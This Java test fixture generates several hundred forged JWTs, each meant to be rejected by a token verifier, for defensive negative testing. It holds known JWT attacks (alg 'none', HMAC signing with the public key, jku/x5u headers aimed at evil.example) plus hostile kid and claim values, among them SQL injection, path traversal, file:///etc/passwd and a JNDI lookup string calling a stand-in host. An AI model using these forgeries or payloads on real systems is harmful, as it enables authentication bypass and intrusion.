package dev.latchkey.security;

import com.auth0.jwt.algorithms.Algorithm;
import java.math.BigInteger;
import java.nio.ByteBuffer;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.SecureRandom;
import java.security.interfaces.ECPublicKey;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.stream.IntStream;

/**
 * Some hundreds of tokens that must not be believed, with what is wrong with each. Most are signed with the right key, so
 * that nothing but the one thing can be the reason for refusing them.
 */
final class ForgedTokens {
    static final long NOW = 1_767_225_600L;
    static final String ISSUER = "https://id.example";
    static final String AUDIENCE = "latchkey";

    private final Map<String, String> tokens = new LinkedHashMap<>();
    private final TokenKey key;
    private final Es256 ours;
    private final String header;
    private final String payload;
    private final KeyPair theirs = P256.portable().generate(new SecureRandom());

    ForgedTokens(TokenKey key) {
        this.key = key;
        this.ours = (Es256) key.algorithm();
        this.header = json(header());
        this.payload = json(claims());
        algorithms();
        headers();
        keyNames();
        claimTypes();
        claimValues();
        times();
        json();
        signatures();
        spelling();
        strangers();
    }

    Map<String, String> all() {
        return tokens;
    }

    /** The one that is right, to show that the others are wrong for their one reason only. */
    String right() {
        return signed(header, payload);
    }

    private Map<String, String> header() {
        Map<String, String> members = new LinkedHashMap<>();
        members.put("alg", "\"ES256\"");
        members.put("typ", "\"at+jwt\"");
        members.put("kid", quoted(key.id()));
        return members;
    }

    private static Map<String, String> claims() {
        Map<String, String> members = new LinkedHashMap<>();
        members.put("iss", quoted(ISSUER));
        members.put("aud", quoted(AUDIENCE));
        members.put("sub", "\"42\"");
        members.put("sid", "\"00000000-0000-4001-8000-00000000abcd\"");
        members.put("jti", "\"00000000-0000-4003-8000-00000000abcd\"");
        members.put("iat", Long.toString(NOW));
        members.put("nbf", Long.toString(NOW));
        members.put("exp", Long.toString(NOW + 900));
        members.put("role", "\"student\"");
        members.put("amr", "[\"sms\"]");
        return members;
    }

    private void algorithms() {
        String signature = part(right(), 2);
        for (String none : List.of("none", "None", "NONE", "nOnE", "", " none", "null")) {
            String unsigned = b64(withHeader("alg", quoted(none))) + "." + b64(payload) + ".";
            add("alg " + none + " without signature", unsigned);
            add("alg " + none + " with a signature", unsigned + signature);
            add("alg " + none + " signed", signed(withHeader("alg", quoted(none)), payload));
        }
        for (String other : List.of(
                "HS256",
                "HS384",
                "HS512",
                "RS256",
                "RS384",
                "RS512",
                "PS256",
                "ES384",
                "ES512",
                "ES256K",
                "EdDSA",
                "es256",
                "Es256",
                "ES256 ",
                "ES-256",
                "SHA256withECDSA",
                "dir",
                "RSA-OAEP",
                "PBES2-HS256+A128KW")) {
            add("alg " + other, signed(withHeader("alg", quoted(other)), payload));
        }
        byte[] x509 = ours.publicKey().getEncoded();
        String pem = "-----BEGIN PUBLIC KEY-----\n"
                + Base64.getMimeEncoder(64, new byte[] {'\n'}).encodeToString(x509) + "\n-----END PUBLIC KEY-----\n";
        Map<String, byte[]> secrets = new LinkedHashMap<>();
        secrets.put("X.509", x509);
        secrets.put("PEM", pem.getBytes(StandardCharsets.US_ASCII));
        secrets.put("PEM without a last line break", pem.strip().getBytes(StandardCharsets.US_ASCII));
        secrets.put("point", Arrays.copyOfRange(x509, 26, 91));
        secrets.put("coordinates", Arrays.copyOfRange(x509, 27, 91));
        secrets.put("x", P256.x(ours.publicKey()).getBytes(StandardCharsets.US_ASCII));
        secrets.put("kid", key.id().getBytes(StandardCharsets.US_ASCII));
        secrets.put("one zero byte", new byte[1]);
        secrets.put("zeros", new byte[32]);
        secrets.forEach((name, secret) -> {
            add("HS256 with the public key as " + name, by(Algorithm.HMAC256(secret), "HS256"));
            add("HS384 with the public key as " + name, by(Algorithm.HMAC384(secret), "HS384"));
            add("HS512 with the public key as " + name, by(Algorithm.HMAC512(secret), "HS512"));
            add("ES256 by HMAC with the public key as " + name, by(Algorithm.HMAC256(secret), "ES256"));
        });
    }

    private void headers() {
        String theirJwk = "{\"kty\":\"EC\",\"crv\":\"P-256\",\"x\":\"" + P256.x(theirPublic()) + "\",\"y\":\""
                + P256.y(theirPublic()) + "\"}";
        Map<String, String> extra = new LinkedHashMap<>();
        extra.put("jwk", theirJwk);
        extra.put("jku", "\"https://evil.example/jwks.json\"");
        extra.put("x5u", "\"https://evil.example/cert.pem\"");
        extra.put("x5c", "[\"MIIB\"]");
        extra.put("x5t", "\"AAAA\"");
        extra.put("x5t#S256", "\"AAAA\"");
        extra.put("crit", "[\"exp\"]");
        extra.put("b64", "false");
        extra.put("zip", "\"DEF\"");
        extra.put("enc", "\"A128GCM\"");
        extra.put("cty", "\"JWT\"");
        extra.put("p2c", "2147483647");
        extra.put("p2s", "\"AAAA\"");
        extra.put("epk", theirJwk);
        extra.put("iss", quoted(ISSUER));
        extra.put("url", "\"https://evil.example\"");
        extra.put("nonce", "\"x\"");
        extra.put("Alg", "\"none\"");
        extra.put("KID", "\"x\"");
        extra.put("", "\"\"");
        extra.forEach((name, value) -> {
            String odd = withHeader(name, value);
            add("header " + name + ", right signature", signed(odd, payload));
            add("header " + name + ", their signature", byThem(odd));
            add("header " + name + " null", signed(withHeader(name, "null"), payload));
        });
        add("crit with b64", signed(json(with(with(header(), "crit", "[\"b64\"]"), "b64", "false")), payload));
        for (String type : List.of(
                "\"JWT\"",
                "\"jwt\"",
                "\"at+JWT\"",
                "\"AT+JWT\"",
                "\"application/at+jwt\"",
                "\"at+jwt \"",
                "\"rt+jwt\"",
                "\"refresh+jwt\"",
                "\"id+jwt\"",
                "\"dpop+jwt\"",
                "\"logout+jwt\"",
                "\"JOSE\"",
                "\"\"",
                "null",
                "1",
                "true",
                "[\"at+jwt\"]",
                "{\"at\":\"jwt\"}")) {
            add("typ " + type, signed(withHeader("typ", type), payload));
        }
        for (String name : List.of("alg", "typ", "kid")) {
            Map<String, String> without = header();
            without.remove(name);
            add("no " + name, signed(json(without), payload));
            for (String value : List.of("null", "1", "true", "[]", "{}", "\"\"")) {
                add(name + " " + value, signed(withHeader(name, value), payload));
            }
        }
    }

    private void keyNames() {
        for (String name : List.of(
                "unknown",
                "../../dev/null",
                "/dev/null",
                "..\\\\..\\\\nul",
                "' OR '1'='1",
                "x' UNION SELECT 'AAAA",
                "'; DROP TABLE signing_key; --",
                "http://evil.example/key",
                "file:///etc/passwd",
                "%00",
                "\\u0000",
                key.id() + "\\u0000",
                key.id() + " ",
                " " + key.id(),
                key.id().toLowerCase(Locale.ROOT),
                "${jndi:ldap://evil.example/a}",
                "hs-00000000",
                "k".repeat(64),
                "k".repeat(65),
                "k".repeat(2_000),
                "ключ",
                "\\ud800")) {
            add("kid " + name, signed(withHeader("kid", "\"" + name + "\""), payload));
        }
        add("kid of 10 kB", signed(withHeader("kid", quoted("k".repeat(10_000))), payload));
    }

    private void claimTypes() {
        for (String name : claims().keySet()) {
            Map<String, String> without = claims();
            String value = without.remove(name);
            add("no " + name, signed(header, json(without)));
            for (String other :
                    List.of("null", "true", "false", "[]", "{}", "\"\"", "[" + value + ",1]", "1.5", "-1")) {
                add(name + " " + other, signed(header, withClaim(name, other)));
            }
            add(
                    name + " twice",
                    signed(
                            header,
                            payload.substring(0, payload.length() - 1) + "," + quoted(name) + ":" + value + "}"));
            add(name + " in an object", signed(header, withClaim(name, "{\"value\":" + value + "}")));
        }
    }

    private void claimValues() {
        String sid = "00000000-0000-4001-8000-00000000abcd";
        claim(
                "iss",
                "\"https://id.example/\"",
                "\"https://id.example.evil\"",
                "\"HTTPS://ID.EXAMPLE\"",
                "\"latchkey\"");
        claim("iss", "[\"https://id.example\"]", "\"https://id.example\\u0000\"", "\" https://id.example\"");
        claim("aud", "\"other\"", "[\"latchkey\"]", "[\"other\",\"latchkey\"]", "\"Latchkey\"", "\"latchkey,other\"");
        claim("sub", "42", "\"0\"", "\"-42\"", "\"+42\"", "\"042\"", "\" 42\"", "\"42 \"", "\"42.0\"", "\"4e1\"");
        claim("sub", "\"0x2a\"", "\"٤٢\"", "\"４２\"", "\"42\\u0000\"", "\"42\\n\"", "\"9223372036854775808\"");
        claim(
                "sub",
                "\"99999999999999999999999999\"",
                "\"admin\"",
                "[\"42\"]",
                "\"42; DROP TABLE account\"",
                "\"1_0\"");
        for (String name : List.of("sid", "jti")) {
            claim(name, "\"" + sid.toUpperCase(Locale.ROOT) + "\"", "\"{" + sid + "}\"", "\"urn:uuid:" + sid + "\"");
            claim(name, "\"0-0-4001-8000-abcd\"", "\"" + sid.replace("-", "") + "\"", "\"" + sid + " \"", "1");
            claim(name, "\"" + sid + "0\"", "\"00000000-0000-4001-8000-00000000abcg\"", "\"' OR 1=1\"");
        }
        claim("role", "\"STUDENT\"", "\"Student\"", "\"root\"", "\"superuser\"", "\"student \"", "\"student,admin\"");
        claim("role", "[\"student\"]", "0", "\"ADMIN\"", "\"admın\"", "\"\\u0430dmin\"", "\"moderator\\u0000\"");
        claim(
                "amr",
                "\"sms\"",
                "[\"SMS\"]",
                "[\"sms\",\"sms\"]",
                "[\"face\"]",
                "[[\"sms\"]]",
                "[null]",
                "[\"\"]",
                "[1]");
    }

    private void times() {
        for (String name : List.of("exp", "iat", "nbf")) {
            claim(name, "\"1767225600\"", "\"2026-01-01T00:00:00Z\"", "1767225600.0", "1767225600.5", "1.7672256E9");
            claim(name, "1e400", "-1e400", "1767225600e0", "-1767225600", "-0.0", "9223372036854775807", "1e-400");
            claim(
                    name,
                    "9223372036854775808",
                    "-9223372036854775808",
                    "253402300800",
                    "17672256000000",
                    "[1767225600]");
            claim(name, "1" + "0".repeat(30), "1" + "0".repeat(500), "0x7fffffff", "NaN", "Infinity", "01767225600");
        }
        claim("exp", "0", "1", "1767225600", "1767225599", "1767139200");
        claim("iat", "0", "1767225606", "1767226500", "1767226501");
        claim("nbf", "0", "1767225599", "1767225601", "1767225606", "1767226500");
        Map<String, String> future = with(with(claims(), "iat", Long.toString(NOW + 6)), "nbf", Long.toString(NOW + 6));
        add("from the future", signed(header, json(future)));
        Map<String, String> past =
                with(with(with(claims(), "iat", "1767224000"), "nbf", "1767224000"), "exp", Long.toString(NOW));
        add("over at this moment", signed(header, json(past)));
    }

    private void json() {
        for (boolean inHeader : new boolean[] {true, false}) {
            String text = inHeader ? header : payload;
            String where = inHeader ? "header" : "payload";
            String open = text.substring(0, text.length() - 1);
            for (String odd : List.of(
                    "",
                    " ",
                    "null",
                    "1",
                    "\"text\"",
                    "[]",
                    "{}",
                    "[" + text + "]",
                    open,
                    open + ",}",
                    text + "}",
                    text + "{}",
                    text + " x",
                    text + "\u0000",
                    "\u0000" + text,
                    "\ufeff" + text,
                    "//\n" + text,
                    "/**/" + text,
                    "#\n" + text,
                    text.replace('"', '\''),
                    text.replace("\"", ""),
                    open + ",\"x\":" + "[".repeat(20) + "]".repeat(20) + "}",
                    open + ",\"x\":" + "{\"a\":".repeat(20) + "1" + "}".repeat(20) + "}",
                    "[".repeat(1_500),
                    "{\"a\":".repeat(300),
                    open + ",\"x\":" + "[".repeat(1_000) + "]".repeat(1_000) + "}",
                    open + ",\"x\":NaN}",
                    open + ",\"x\":+1}",
                    open + ",\"x\":.5}",
                    open + ",\"x\":1" + "0".repeat(1_000) + "}",
                    open + ",\"x\":\"\\x41\"}",
                    open + ",\"x\":\"a\nb\"}",
                    open + ",\"x\":1,\"x\":2}")) {
                add(where + " " + odd, inHeader ? signed(odd, payload) : signed(header, odd));
            }
            for (Charset charset : List.of(
                    StandardCharsets.UTF_16,
                    StandardCharsets.UTF_16LE,
                    StandardCharsets.UTF_16BE,
                    Charset.forName("UTF-32"),
                    Charset.forName("UTF-32LE"))) {
                add(where + " in " + charset, bytes(inHeader, text.getBytes(charset)));
            }
            for (String bad : List.of("ff", "c080", "eda080", "f4908080", "80", "c3", "e282")) {
                byte[] odd = (open + ",\"x\":\"?\"}").getBytes(StandardCharsets.ISO_8859_1);
                byte[] replaced =
                        HexFormat.of().parseHex(HexFormat.of().formatHex(odd).replace("223f22", "22" + bad + "22"));
                add(where + " with the bytes " + bad, bytes(inHeader, replaced));
            }
        }
    }

    private void signatures() {
        String content = b64(header) + "." + b64(payload);
        byte[] right = Base64.getUrlDecoder().decode(part(right(), 2));
        for (String r : OddNumbers.ALL) {
            for (String s : OddNumbers.ALL) {
                add("r=" + r + " s=" + s, content + "." + b64(HexFormat.of().parseHex(r + s)));
            }
        }
        byte[] swapped = new byte[64];
        System.arraycopy(right, 32, swapped, 0, 32);
        System.arraycopy(right, 0, swapped, 32, 32);
        add("r and s swapped", content + "." + b64(swapped));
        add("DER", content + "." + b64(der(right)));
        for (int length : new int[] {0, 1, 31, 32, 63}) {
            add("signature of " + length, content + "." + b64(Arrays.copyOf(right, length)));
        }
        for (int length : new int[] {65, 66, 96, 128, 256}) {
            add("signature of " + length, content + "." + b64(Arrays.copyOf(right, length)));
        }
        byte[] led = new byte[66];
        System.arraycopy(right, 0, led, 1, 32);
        System.arraycopy(right, 32, led, 34, 32);
        add("signature with leading zeros", content + "." + b64(led));
        add("signed by a stranger", byThem(header));
        add("signature of another token", content + "." + part(signed(header, payload + " "), 2));
        add(
                "signature of the payload",
                content + "." + b64(ours.sign(b64(payload).getBytes(StandardCharsets.US_ASCII))));
        add(
                "signature of the clear text",
                content + "." + b64(ours.sign((header + payload).getBytes(StandardCharsets.UTF_8))));
        add("payload of another", b64(header) + "." + b64(withClaim("role", "\"admin\"")) + "." + part(right(), 2));
    }

    private void spelling() {
        String right = right();
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        int last = alphabet.indexOf(right.charAt(right.length() - 1));
        for (int i = 1; i < 16; i++) {
            add("stray bits " + i, right.substring(0, right.length() - 1) + alphabet.charAt(last ^ i));
        }
        for (String odd : List.of(
                "=", "==", "A", "AA", " ", "\n", "\r\n", "\t", "\u0000", "\u00a0", ".", "..", "+", "/", "%3D",
                "\u2028")) {
            add("followed by " + odd.codePointAt(0) + "x" + odd.length(), right + odd);
            add("led by " + odd.codePointAt(0) + "x" + odd.length(), odd + right);
            int dot = right.indexOf('.');
            add(
                    "header followed by " + odd.codePointAt(0) + "x" + odd.length(),
                    right.substring(0, dot) + odd + right.substring(dot));
            add(
                    "payload led by " + odd.codePointAt(0) + "x" + odd.length(),
                    right.substring(0, dot + 1) + odd + right.substring(dot + 1));
        }
        add("Bearer", "Bearer " + right);
        add("quoted", quoted(right));
        add("twice", right + right);
        add("twice with a dot", right + "." + right);
        add("fullwidth dot", right.replace('.', '\uff0e'));
        add("reversed", new StringBuilder(right).reverse().toString());
        add("standard base64", b64(header).replace('-', '+') + "+/." + part(right, 1) + "." + part(right, 2));
        add("upper case", right.toUpperCase(Locale.ROOT));
        add("hexadecimal", HexFormat.of().formatHex(right.getBytes(StandardCharsets.US_ASCII)));
        add("a lone surrogate", right + "\ud800");
        String content = part(right, 0) + "." + part(right, 1);
        add("padded and signed so", by(b64(header) + "=", b64(payload)));
        add("with a line break and signed so", by(b64(header), b64(payload) + "\n"));
        add("no signature", content);
        add("no signature but a dot", content + ".");
        add("JWE, five parts", right + ".AAAA.AAAA");
        add("JWE, all empty", "....");
        add("JWE, direct", b64("{\"alg\":\"dir\",\"enc\":\"A128GCM\"}") + "..AAAA.AAAA.AAAA");
        add(
                "JSON serialization",
                "{\"protected\":" + quoted(part(right, 0)) + ",\"payload\":" + quoted(part(right, 1))
                        + ",\"signature\":" + quoted(part(right, 2)) + "}");
    }

    private void strangers() {
        for (String odd : List.of(
                "",
                " ",
                ".",
                "..",
                "...",
                "....",
                "a",
                "a.b",
                "a.b.c",
                "null",
                "undefined",
                "{}",
                "e30.e30.",
                "e30.e30.AA",
                "\u0000",
                "\ud800",
                "Basic dXNlcjpwYXNz",
                "00000000-0000-4001-8000-00000000abcd")) {
            add("stranger " + odd, odd);
        }
        byte[] secret = new byte[32];
        for (int i = 0; i < 10; i++) {
            Arrays.fill(secret, (byte) (i * 37));
            add("like a refresh token #" + i, b64(secret));
        }
        add("1 MB", "a".repeat(1 << 20));
        add("1 MB of dots", ".".repeat(1 << 20));
        add("1 MB in three parts", ("a".repeat(350_000) + ".").repeat(3));
        add("1 MB of claims", signed(header, withClaim("x", quoted("a".repeat(1 << 20)))));
        add("1 MB of depth", signed(header, withClaim("x", "[".repeat(500_000) + "]".repeat(500_000))));
        add("4 kB and one", signed(header, withClaim("x", quoted("a".repeat(2_700)))));
        IntStream.rangeClosed(4_090, 4_100).forEach(length -> add(length + " letters", "A".repeat(length)));
    }

    private void claim(String name, String... values) {
        for (String value : values) {
            add(name + " " + value, signed(header, withClaim(name, value)));
        }
    }

    private void add(String wrong, String token) {
        String label = "#" + tokens.size() + " " + wrong.replaceAll("[^ -~]", "?");
        tokens.put(label.substring(0, Math.min(70, label.length())), token);
    }

    private String signed(String headerJson, String payloadJson) {
        return by(b64(headerJson), b64(payloadJson));
    }

    private String bytes(boolean inHeader, byte[] bytes) {
        return inHeader ? by(b64(bytes), b64(payload)) : by(b64(header), b64(bytes));
    }

    private String by(String first, String second) {
        return by(ours, first, second);
    }

    private String by(Algorithm algorithm, String name) {
        return by(algorithm, b64(withHeader("alg", quoted(name))), b64(payload));
    }

    private String byThem(String headerJson) {
        return by(new Es256(P256.portable(), theirPublic(), theirs.getPrivate()), b64(headerJson), b64(payload));
    }

    private static String by(Algorithm algorithm, String first, String second) {
        byte[] content = (first + "." + second).getBytes(StandardCharsets.UTF_8);
        return first + "." + second + "." + b64(algorithm.sign(content));
    }

    private ECPublicKey theirPublic() {
        return (ECPublicKey) theirs.getPublic();
    }

    private String withHeader(String name, String value) {
        return json(with(header(), name, value));
    }

    private static String withClaim(String name, String value) {
        return json(with(claims(), name, value));
    }

    private static Map<String, String> with(Map<String, String> members, String name, String value) {
        members.put(name, value);
        return members;
    }

    private static String json(Map<String, String> members) {
        List<String> written = new ArrayList<>();
        members.forEach((name, value) -> written.add(quoted(name) + ":" + value));
        return "{" + String.join(",", written) + "}";
    }

    private static String quoted(String text) {
        return "\"" + text + "\"";
    }

    private static String b64(String text) {
        return b64(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String b64(byte[] bytes) {
        return Base64.getUrlEncoder().withoutPadding().encodeToString(bytes);
    }

    private static String part(String token, int index) {
        return token.split("\\.", -1)[index];
    }

    private static byte[] der(byte[] joined) {
        byte[] r = new BigInteger(1, joined, 0, 32).toByteArray();
        byte[] s = new BigInteger(1, joined, 32, 32).toByteArray();
        ByteBuffer der = ByteBuffer.allocate(6 + r.length + s.length);
        der.put((byte) 0x30).put((byte) (4 + r.length + s.length));
        der.put((byte) 2).put((byte) r.length).put(r);
        der.put((byte) 2).put((byte) s.length).put(s);
        return der.array();
    }
}
